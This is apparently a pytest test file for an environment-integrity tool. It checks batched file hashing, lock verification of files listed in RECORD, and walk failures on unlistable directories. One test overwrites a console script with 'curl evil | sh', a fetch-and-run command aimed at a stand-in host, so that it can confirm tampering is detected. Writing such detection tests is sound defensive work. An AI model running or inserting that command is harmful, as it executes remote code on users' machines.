"""Parallel hashing: batched small files, big files, failures; hashing driven by a lock."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path

import pytest
from envtools import Venv

from trainwarden.env import read_lock, snapshot_environment, verify_environment, write_lock
from trainwarden.env._hashing import FileDigest, HashFailure, hash_files
from trainwarden.findings import Report, Verdict


def _bad_rules(report: Report) -> set[str]:
    return {f.rule_id for f in report.findings if f.verdict is not Verdict.SAFE}


def test_batched_hashing_matches_hashlib_and_reports_failures(tmp_path: Path) -> None:
    files: dict[str, bytes] = {}
    # Sizes around every threshold: empty, under hashlib's GIL cut-off, one-read limit, big.
    for i, size in enumerate((0, 1, 2047, 2048, 70_000, (256 << 10) + 1, (1 << 20) + 3)):
        path = tmp_path / f"f{i}"
        data = os.urandom(size)
        path.write_bytes(data)
        files[str(path)] = data
    for i in range(1200):  # more than one batch of small files
        path = tmp_path / f"s{i}"
        data = f"x = {i}\n".encode()
        path.write_bytes(data)
        files[str(path)] = data
    missing = str(tmp_path / "gone")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    directory = tmp_path / "dir"
    directory.mkdir()
    # Sizes claimed by an (untrusted) RECORD or lock only steer scheduling: lie about them.
    sizes = {p: (1 << 30) if i % 2 else 0 for i, p in enumerate(files)}
    for workers in (1, 2):
        got = hash_files([*files, missing, str(fifo), str(directory)], workers=workers, sizes=sizes)
        for path, data in files.items():
            item = got[path]
            assert isinstance(item, FileDigest), path
            assert item.digest == hashlib.sha256(data).digest()
            assert item.size == len(data)
        gone = got[missing]
        assert isinstance(gone, HashFailure)
        assert gone.missing
        for odd in (fifo, directory):
            failure = got[str(odd)]
            assert isinstance(failure, HashFailure)
            assert not failure.missing


def test_lock_run_still_checks_record_rows_outside_the_site_dir(venv: Venv, tmp_path: Path) -> None:
    # A console script lives in bin/, outside the site directory and so outside the lock's
    # roots: RECORD is what vouches for it, and a lock run must still hash it.
    script = venv.root / "bin" / "idna-tool"
    script.write_bytes(b"#!/bin/sh\necho ok\n")
    digest = base64.urlsafe_b64encode(hashlib.sha256(script.read_bytes()).digest()).rstrip(b"=")
    [record] = venv.site.glob("idna-*.dist-info/RECORD")
    with record.open("a") as fh:
        fh.write(f"../../../bin/idna-tool,sha256={digest.decode()},{script.stat().st_size}\n")
    lock, report = snapshot_environment([str(venv.site)])
    assert _bad_rules(report) == set()
    write_lock(lock, tmp_path / "env.lock")
    clean = verify_environment(lock=read_lock(tmp_path / "env.lock"))
    assert _bad_rules(clean) == set()
    script.write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    tampered = verify_environment(lock=read_lock(tmp_path / "env.lock"))
    modified = [f for f in tampered.findings if f.rule_id == "env.file-modified"]
    assert [f.location.path for f in modified] == [str(script)]


def test_unlistable_directory_fails_the_walk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Running as root, chmod cannot make a directory unlistable: simulate the OS refusing.
    from trainwarden.env import _dists
    from trainwarden.errors import InputError

    hidden = tmp_path / "torch" / "hidden"
    hidden.mkdir(parents=True)
    (hidden / "payload.py").write_text("x = 1\n")
    (tmp_path / "torch" / "ok.py").write_text("y = 2\n")
    real_scandir = os.scandir

    def scandir(path: str) -> object:
        if os.fspath(path) == str(hidden):
            raise PermissionError(13, "Permission denied")
        return real_scandir(path)

    monkeypatch.setattr(_dists.os, "scandir", scandir)
    with pytest.raises(InputError, match=r"cannot list .*hidden"):
        dict(_dists.walk_files(str(tmp_path)))
